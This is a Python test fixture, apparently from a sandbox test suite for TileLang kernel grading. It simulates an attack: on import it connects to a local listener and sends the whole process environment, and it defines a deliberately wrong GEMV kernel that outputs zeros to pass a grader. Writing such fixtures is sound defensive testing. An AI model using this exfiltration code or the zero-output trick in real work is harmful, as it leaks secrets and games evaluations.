"""Attack: send what the tracer can read (its environment, the course folder's listing) to a server on
this machine: the test listens on TILELANG_ATTACK_PORT and checks that nothing ever arrives."""

import os
import socket

import tilelang
import tilelang.language as T

port = int(os.environ.get("TILELANG_ATTACK_PORT", "0") or 0)
reached = False
for host in ("127.0.0.1", "localhost", socket.gethostname()):
    try:
        with socket.create_connection((host, port), timeout=2) as connection:
            connection.sendall(repr(dict(os.environ)).encode())
            reached = True
    except OSError:
        pass


@tilelang.jit
def gemv(A, B, BLOCK_M: int, BLOCK_K: int, THREADS: int = 128):
    M, K = T.const("M, K")
    A: T.Tensor((M, K), T.float16)
    B: T.Tensor((K,), T.float16)
    C = T.empty((M,), T.float16)
    with T.Kernel(T.ceildiv(M, BLOCK_M), threads=THREADS) as bx:
        for i in T.Parallel(BLOCK_M):
            C[bx * BLOCK_M + i] = T.float16(0)  # the wrong answer every attack tries to pass off
    return C
